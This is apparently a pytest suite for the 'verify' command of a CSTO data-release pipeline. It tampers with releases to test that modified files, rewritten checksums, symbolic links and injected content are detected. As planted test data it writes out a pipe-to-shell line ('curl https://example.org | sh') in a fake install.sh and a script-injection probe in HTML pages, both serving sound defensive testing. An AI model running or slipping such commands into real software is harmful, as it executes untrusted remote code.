"""`csto-data verify`: an intact release passes; a tampered one names what was touched."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from flows.orchestration.cli import main


@pytest.fixture(scope="module")
def small_release(small_raw: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """v1.0.0 of the small records (`small_raw`), made once: verify's checks are the
    same on every table, so they need no more rows than these."""
    from flows.orchestration.pipeline import release

    output = tmp_path_factory.mktemp("small-release") / "output"
    release(small_raw, output, date="2026-01-01")
    return output


@pytest.fixture
def output(small_release: Path, tmp_path: Path) -> Path:
    """A private copy of `small_release` that a test may tamper with."""
    return Path(shutil.copytree(small_release, tmp_path / "output"))


@pytest.fixture
def raw_dir(small_raw: Path, tmp_path: Path) -> Path:
    """A private copy of the records `small_release` was made from."""
    return Path(shutil.copytree(small_raw, tmp_path / "raw"))


def verify(output: Path, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    code = main(["verify", "--output", str(output), *args])
    return code, capsys.readouterr().out


def test_intact_release_verifies(output: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out = verify(output, capsys)
    assert code == 0, out
    assert "intact" in out


@pytest.mark.slow
def test_intact_release_rebuilds_byte_for_byte(
    output: Path, raw_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main(["--raw", str(raw_dir), "verify", "1.0.0", "--output", str(output), "--rebuild"])
    assert code == 0, capsys.readouterr().out


@pytest.mark.parametrize("target", ["latest", pytest.param("v1.0.0", marks=pytest.mark.slow)])
def test_tampered_release_names_each_modified_missing_and_extra_file(
    output: Path, capsys: pytest.CaptureFixture[str], target: str
) -> None:
    folder = output / target
    (folder / "members.csv").write_bytes(
        (folder / "members.csv").read_bytes().replace(b"ARM", b"AZE", 1)
    )
    (folder / "CODEBOOK.md").unlink()
    (folder / "notes.txt").write_text("added after download\n")
    code, out = verify(output, capsys, *([] if target == "latest" else ["1.0.0"]))
    assert code == 1
    assert f"{folder / 'members.csv'}: modified" in out
    assert f"{folder / 'CODEBOOK.md'}: missing" in out
    assert f"{folder / 'notes.txt'}: extra file" in out
    assert "is not intact" in out


def rewrite_checksums(folder: Path) -> None:
    """What an adversary who changed files does next: a `SHA256SUMS` that matches them."""
    from flows.steps.checksums import checksums

    files = {p.name: p.read_bytes() for p in folder.iterdir() if p.name != "SHA256SUMS"}
    (folder / "SHA256SUMS").write_bytes(checksums(files))


@pytest.mark.slow
def test_changed_data_with_matching_checksums_fails_the_schemas(
    output: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Someone who also rewrites SHA256SUMS is still caught by the schemas."""
    from flows.steps.checksums import checksums

    folder = output / "latest"
    csv = (folder / "troop_deployments.csv").read_text().splitlines()
    header = csv[0].split(",")
    cells = csv[1].split(",")
    cells[header.index("troops")] = "-7"
    csv[1] = ",".join(cells)
    (folder / "troop_deployments.csv").write_text("\n".join(csv) + "\n")
    files = {p.name: p.read_bytes() for p in folder.iterdir() if p.name != "SHA256SUMS"}
    (folder / "SHA256SUMS").write_bytes(checksums(files))
    code, out = verify(output, capsys)
    assert code == 1
    assert (
        f"{folder / 'troop_deployments.csv'}:2: troop_deployments.troops: must be at least 0" in out
    )


def test_a_package_validated_before_is_validated_again_once_its_bytes_change(
    output: Path,
) -> None:
    """Frictionless's findings are kept by the digest of the files: a file changed after
    an intact validation is read by Frictionless again."""
    from flows.steps.verify import package_problems, read_folder

    folder = output / "latest"
    assert package_problems(read_folder(folder)[0], folder, str) == []
    csv = (folder / "troop_deployments.csv").read_text().splitlines()
    header, cells = csv[0].split(","), csv[1].split(",")
    cells[header.index("troops")] = "-7"
    csv[1] = ",".join(cells)
    (folder / "troop_deployments.csv").write_text("\n".join(csv) + "\n")
    found = package_problems(read_folder(folder)[0], folder, str)
    assert found and all(p.startswith("datapackage.json: ") for p in found)
    assert any("troop_deployments" in p for p in found)


def test_a_package_whose_data_files_are_unchanged_is_not_validated_again(
    output: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A page or a checksum listing is not read by Frictionless: changing one keeps its
    findings; changing a data file the descriptor names does not."""
    import frictionless

    from flows.steps.verify import package_problems, read_folder

    folder = output / "latest"
    assert package_problems(read_folder(folder)[0], folder, str) == []
    calls: list[str] = []
    validate = frictionless.validate
    monkeypatch.setattr(frictionless, "validate", lambda path: calls.append(path) or validate(path))
    (folder / "index.html").write_bytes(b"<p>changed</p>")
    assert package_problems(read_folder(folder)[0], folder, str) == []
    assert calls == []
    (folder / "members.dta").write_bytes(b"changed")
    package_problems(read_folder(folder)[0], folder, str)
    assert len(calls) == 1


def test_a_descriptor_whose_paths_are_not_plain_names_keeps_every_file_in_the_key() -> None:
    from flows.steps.verify import package_inputs

    files = {"a.csv": b"1", "page.html": b"2"}
    plain = {**files, "datapackage.json": b'{"resources": [{"path": "a.csv"}]}'}
    listed = {**files, "datapackage.json": b'{"resources": [{"path": ["a.csv"]}]}'}
    assert set(package_inputs(plain)) == {"a.csv", "datapackage.json"}
    assert package_inputs(listed) == listed


def test_unknown_version_is_reported(output: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out = verify(output, capsys, "9.9.9")
    assert code == 1
    assert "no release v9.9.9" in out


@pytest.mark.slow
def test_a_parquet_file_that_differs_from_its_csv_is_caught_even_with_matching_checksums(
    output: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from flows.steps.checksums import checksums

    folder = output / "latest"
    (folder / "operations.parquet").write_bytes((folder / "countries.parquet").read_bytes())
    files = {p.name: p.read_bytes() for p in folder.iterdir() if p.name != "SHA256SUMS"}
    (folder / "SHA256SUMS").write_bytes(checksums(files))
    code, out = verify(output, capsys)
    assert code == 1
    assert f"{folder / 'operations.parquet'}: its cells differ from the CSV" in out


def test_verify_latest_names_the_latest_folder(
    output: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out = verify(output, capsys, "latest")
    assert code == 0, out
    assert out.startswith(f"{output / 'latest'}: intact")
    assert "only `verify --rebuild` proves" in out


def test_a_value_changed_in_csv_and_parquet_but_not_stata_is_caught(
    output: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The index's record of SHA256SUMS and the Stata file both give it away."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from flows.steps.render import csv_bytes, parquet_bytes

    folder = output / "v1.0.0"
    table = pq.read_table(folder / "troop_deployments.parquet")
    troops = table["troops"].to_pylist()
    troops[0] = 9999
    changed = table.set_column(
        table.schema.get_field_index("troops"), table.schema.field("troops"), pa.array(troops)
    )
    (folder / "troop_deployments.parquet").write_bytes(parquet_bytes(changed))
    (folder / "troop_deployments.csv").write_bytes(csv_bytes(changed))
    rewrite_checksums(folder)
    code, out = verify(output, capsys, "1.0.0")
    assert code == 1
    assert f"{folder / 'troop_deployments.dta'}: row 1, troops: " in out
    assert "where the CSV holds '9999'" in out
    assert f"{folder / 'SHA256SUMS'}: not the one releases.json recorded" in out


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        ("licence", "SHA256SUMS: not the one releases.json recorded"),
        *(
            pytest.param(*case, marks=pytest.mark.slow)
            for case in [
                ("extra", "install.sh: not a file a release holds"),
                ("no codebook", "CODEBOOK.md: missing (every release holds it)"),
                ("no page", "index.html: missing (every release holds it)"),
                ("no table", "operations.csv: missing, though releases.json records the table"),
                ("script", "index.html: holds a script, which a page never does"),
                ("script", "table-members.html: holds a script, which a page never does"),
            ]
        ),
    ],
)
def test_files_changed_with_their_checksums_are_held_to_the_index_and_the_release_layout(
    output: Path, capsys: pytest.CaptureFixture[str], change: str, expected: str
) -> None:
    folder = output / "v1.0.0"
    if change == "licence":
        package = folder / "datapackage.json"
        package.write_text(package.read_text().replace("CC-BY-4.0", "CC0-1.0"))
    elif change == "extra":
        (folder / "install.sh").write_text("curl https://example.org | sh\n")
    elif change == "no codebook":
        (folder / "CODEBOOK.md").unlink()
    elif change == "no page":
        (folder / "index.html").unlink()
    elif change == "no table":
        for suffix in (".csv", ".parquet", ".dta"):
            (folder / f"operations{suffix}").unlink()
    else:
        page = folder / expected.split(":")[0]
        page.write_text(page.read_text().replace("</body>", "<script>alert(1)</script></body>"))
    rewrite_checksums(folder)
    code, out = verify(output, capsys, "1.0.0")
    assert code == 1
    assert expected in out, out


def test_rows_other_than_the_index_recorded_are_named(
    output: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    index = output / "releases.json"
    data = json.loads(index.read_text())
    data["releases"][0]["rows"]["members"] += 1
    index.write_text(json.dumps(data))
    code, out = verify(output, capsys, "1.0.0")
    assert code == 1
    assert "members.parquet: 12 rows, where releases.json recorded 13" in out


@pytest.mark.parametrize(
    "listing", [b"\xff\xfe not UTF-8\n", pytest.param(b"abc members.csv\n", marks=pytest.mark.slow)]
)
def test_a_malformed_checksum_listing_is_named_with_its_line_not_a_traceback(
    output: Path, capsys: pytest.CaptureFixture[str], listing: bytes
) -> None:
    (output / "latest" / "SHA256SUMS").write_bytes(listing)
    code, out = verify(output, capsys)
    assert code == 1
    sums = output / "latest" / "SHA256SUMS"
    assert (
        f"{sums}: not UTF-8 text (byte 1)" in out
        or f"{sums}: line 1 is not '<64 hex digits>  <file name>'" in out
    ), out


@pytest.mark.parametrize("what", ["latest", pytest.param("v1.0.0", marks=pytest.mark.slow)])
def test_a_release_folder_that_is_a_link_out_of_output_is_not_adopted(
    output: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], what: str
) -> None:
    outside = shutil.copytree(output / what, tmp_path / "elsewhere")
    shutil.rmtree(output / what)
    (output / what).symlink_to(outside)
    code, out = verify(output, capsys)
    assert code == 1
    assert "a symbolic link" in out, out


@pytest.mark.slow
def test_a_link_inside_a_release_is_never_followed(
    output: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    secret = tmp_path / "secret.csv"
    secret.write_text("not yours\n")
    members = output / "latest" / "members.csv"
    members.unlink()
    members.symlink_to(secret)
    code, out = verify(output, capsys)
    assert code == 1
    assert f"{members}: a symbolic link, which a release never holds" in out


@pytest.mark.slow
def test_verify_under_the_c_locale_in_a_non_ascii_folder_finds_nothing_wrong(
    output: Path, tmp_path: Path
) -> None:
    folder = shutil.copytree(output, tmp_path / "выпуск")
    """Python's own UTF-8 mode and locale coercion off, as on some minimal systems: the
    paths are then bytes that only the operating system may decode."""
    env = {**os.environ, "LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}
    result = subprocess.run(
        [sys.executable, "-m", "flows.orchestration.cli", "verify", "--output", str(folder)],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.slow
def test_rebuild_names_an_index_whose_content_hash_is_not_the_rebuilds(
    output: Path, raw_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    index = output / "releases.json"
    data = json.loads(index.read_text())
    data["releases"][0]["content_hash"] = "0" * 64
    index.write_text(json.dumps(data))
    code = main(["--raw", str(raw_dir), "verify", "1.0.0", "--output", str(output), "--rebuild"])
    out = capsys.readouterr().out
    assert code == 1
    assert f"{index}: records another content hash for v1.0.0 than its rebuild" in out
